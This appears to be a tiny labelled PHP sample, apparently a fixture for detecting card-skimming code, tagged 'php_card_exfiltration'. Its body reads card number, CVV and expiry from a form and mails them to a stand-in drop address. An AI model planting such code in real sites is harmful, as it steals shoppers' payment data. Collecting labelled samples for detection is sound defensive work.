<?php
// A skimmer mails the card fields.
// want: php_card_exfiltration
$msg = "Card: " . $_POST['cc_number'] . " CVV: " . $_POST['cvv'] . " Exp: " . $_POST['exp_month'];
mail('drop@example.net', 'new', $msg);
